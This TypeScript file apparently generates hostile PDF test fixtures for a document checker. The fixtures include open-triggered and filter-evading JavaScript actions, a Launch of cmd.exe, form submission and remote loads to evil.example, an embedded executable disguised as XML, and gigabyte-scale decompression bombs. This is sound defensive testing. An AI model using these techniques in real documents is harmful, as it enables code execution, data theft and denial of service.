import { deflateSync } from 'node:zlib'
import Pdf from 'pdfkit'
import type { Random } from './random.ts'

type Make = (random: Random) => Buffer | Promise<Buffer>

const mib = 1024 * 1024

interface Spec {
  /** Additional entries of the catalog and the page. */
  catalog?: string
  page?: string
  /** Additional objects, from number 4. */
  objects?: (string | Buffer)[]
  pages?: string
  trailer?: string
}

/** A PDF of one page, with an object table. */
export function writePdf({ catalog = '', page = '', objects = [], pages, trailer = '' }: Spec): Buffer {
  const all = [
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    pages ?? '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]${page}>>`,
    ...objects,
  ]
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\u00e2\u00e3\n', 'latin1')]
  const offsets: number[] = []
  let at = parts[0]?.length ?? 0
  for (const [index, object] of all.entries()) {
    const bytes = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      Buffer.from(object),
      Buffer.from('\nendobj\n'),
    ])
    offsets.push(at)
    at += bytes.length
    parts.push(bytes)
  }
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const table = `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${rows}trailer\n<</Size ${all.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${at}\n%%EOF\n`
  return Buffer.concat([...parts, Buffer.from(table)])
}

const stream = (entries: string, data: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<<${entries}/Length ${data.length}>>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ])

/** Objects within a compressed stream, from number 10. */
function objectStream(objects: string[]): Buffer {
  let at = 0
  const places = objects.map((object, index) => {
    const place = `${10 + index} ${at} `
    at += object.length + 1
    return place
  })
  const first = places.join('')
  const data = deflateSync(Buffer.from(first + objects.join('\n')))
  return stream(`/Type/ObjStm/N ${objects.length}/First ${first.length}/Filter/FlateDecode`, data)
}

/** A name with one letter escaped, which is equivalent (ISO 32000-1, 7.3.5). */
function escaped(name: string, random: Random): string {
  const at = random.int(name.length)
  return `${name.slice(0, at)}#${name.charCodeAt(at).toString(16)}${name.slice(at + 1)}`
}

const script = (random: Random) =>
  `<</S/${escaped('JavaScript', random)}/${random.pick(['JS', escaped('JS', random)])}(app.alert\\(1\\))>>`
const link = (action: string) => `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${action}>>]`

/** PDFs that run, fetch, contain something, or are decompression bombs. */
export const hostilePdfs: Record<string, Make> = {
  'runs a script when it is opened': (r) => writePdf({ catalog: `/OpenAction${script(r)}` }),
  'runs a script of another object': (r) => writePdf({ catalog: '/OpenAction 4 0 R', objects: [script(r)] }),
  'runs a script in a packed object': (r) =>
    writePdf({ catalog: '/OpenAction 10 0 R', objects: [objectStream([script(r)])] }),
  'runs a script when a page is shown': (r) =>
    writePdf({ page: `/AA<</${r.pick(['O', 'C'])}${script(r)}>>` }),
  'runs a script by a link': (r) => writePdf({ page: link(script(r)) }),
  'runs a script by name': (r) =>
    writePdf({ catalog: `/Names<</${escaped('JavaScript', r)}<</Names[(a)4 0 R]>>>>`, objects: [script(r)] }),
  'runs a script after another action': (r) =>
    writePdf({ page: link(`<</S/GoTo/D[3 0 R/Fit]/Next${script(r)}>>`) }),
  'runs a script from a stream': (r) =>
    writePdf({
      catalog: '/OpenAction<</S/JavaScript/JS 4 0 R>>',
      objects: [stream('/Filter/FlateDecode', deflateSync(Buffer.from(`app.alert(${r.int(9)})`)))],
    }),
  'gets its script in a later version': (r) =>
    Buffer.concat([
      writePdf({}),
      Buffer.from(
        `1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction${script(r)}>>\nendobj\ntrailer\n<</Root 1 0 R/Size 4>>\n%%EOF\n`,
      ),
    ]),
  'has a form with scripts': (r) =>
    writePdf({
      catalog: `/AcroForm<</Fields[]/${escaped('XFA', r)} 4 0 R>>`,
      objects: [stream('', Buffer.from('<xdp/>'))],
    }),
  'starts a program': (r) => writePdf({ page: link(`<</S/${escaped('Launch', r)}/F(cmd.exe)>>`) }),
  'opens a document of a share': (r) =>
    writePdf({ catalog: `/OpenAction<</S/${escaped('GoToR', r)}/F(\\\\\\\\evil\\\\a.pdf)/D[0/Fit]>>` }),
  'sends a form': (r) =>
    writePdf({ page: link(`<</S/${escaped('SubmitForm', r)}/F(http://evil.example)>>`) }),
  'imports data': () => writePdf({ page: link('<</S/ImportData/F(a.fdf)>>') }),
  'links to a program': (r) =>
    writePdf({
      page: link(
        `<</S/URI/URI(${r.pick(['javascript:alert\\(1\\)', 'file:///c:/a.exe', '\\\\\\\\evil\\\\a'])})>>`,
      ),
    }),
  'reads its content from elsewhere': () =>
    writePdf({
      page: '/Contents 4 0 R',
      objects: [stream('/F<</FS/URL/F(http://evil.example)>>', Buffer.alloc(0))],
    }),
  'carries a program': (r) =>
    writePdf({
      catalog: `/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>`,
      objects: [
        `<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>`,
        stream(
          `/Type/EmbeddedFile/Subtype/${r.pick(['application#2Fx-msdownload', 'text#2Fhtml', 'application#2Fpdf'])}`,
          Buffer.from('MZ'),
        ),
      ],
    }),
  'carries a program called XML': () =>
    writePdf({
      objects: [
        '<</Type/Filespec/F(a.xml)/EF<</F 5 0 R>>>>',
        stream('/Type/EmbeddedFile/Subtype/text#2Fxml', Buffer.from('MZ\u0000\u0001')),
      ],
    }),
  'shows rich media': () =>
    writePdf({ page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>]' }),
  'opens with a password': (r) =>
    new Promise((resolve) => {
      const pdf = new Pdf({ userPassword: `secret${r.int(999)}`, ownerPassword: 'owner' })
      const parts: Buffer[] = []
      pdf.on('data', (part: Buffer) => void parts.push(part))
      pdf.on('end', () => resolve(Buffer.concat(parts)))
      pdf.text('locked').end()
    }),
  'has packed objects that burst': (r) => {
    const data = deflateSync(Buffer.alloc((400 + r.int(100)) * mib, ' '))
    return writePdf({ objects: [stream('/Type/ObjStm/N 1/First 5/Filter/FlateDecode', data)] })
  },
  'has packed objects that burst twice': () => {
    const data = deflateSync(deflateSync(Buffer.alloc(500 * mib)))
    return writePdf({ objects: [stream('/Type/ObjStm/N 1/First 5/Filter[/FlateDecode/FlateDecode]', data)] })
  },
  'is nested without end': (r) => {
    const depth = 5000 + r.int(100_000)
    return writePdf({ objects: ['['.repeat(depth) + ']'.repeat(depth)] })
  },
  'is nested deeper than allowed': (r) => {
    const depth = 150 + r.int(300)
    return writePdf({ objects: ['<</A '.repeat(depth) + '1' + '>>'.repeat(depth)] })
  },
  'has objects without end': () =>
    Buffer.concat([
      writePdf({}),
      Buffer.from(
        Array.from({ length: 310_000 }, (_, at) => `${at + 10} 0 obj 1 endobj\n`).join(''),
      ).subarray(0, 5_000_000),
      Buffer.from('9 0 obj [' + '1 '.repeat(10) + '] endobj\n'),
    ]).subarray(0, 5 * mib),
  'claims pages without end': (r) =>
    writePdf({ pages: `<</Type/Pages/Kids[3 0 R]/Count ${1_000_000 + r.int(1_000_000_000)}>>` }),
  'has pages in a circle': () => writePdf({ pages: '<</Type/Pages/Kids[2 0 R]/Count 3>>' }),
  'has no pages': () => writePdf({ pages: '<</Type/Pages/Kids[]/Count 0>>' }),
  'is the head of a PDF': (r) => Buffer.from(`%PDF-1.${r.int(8)}\n`),
  'is noise behind the head of a PDF': (r) =>
    Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.from(Array.from({ length: 5000 }, () => r.int(256)))]),
}
